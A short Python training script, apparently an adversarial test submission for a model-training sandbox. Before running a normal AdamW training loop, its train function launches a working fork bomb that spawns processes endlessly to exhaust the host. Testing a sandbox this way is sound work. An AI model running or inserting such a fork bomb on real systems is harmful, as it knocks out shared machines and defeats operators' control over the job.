"""Starts a fork bomb, then trains beside it as well as it can."""

import os
import time

import torch


def train(ctx):
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.001)
    except OSError:
        pass
    model = ctx.build_model()
    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-2)
    for batch in ctx.stream(model, batch_size=16, seq_len=60):
        loss = batch.loss(model(batch.inputs))
        loss.backward()
        optimizer.step()
        optimizer.zero_grad()
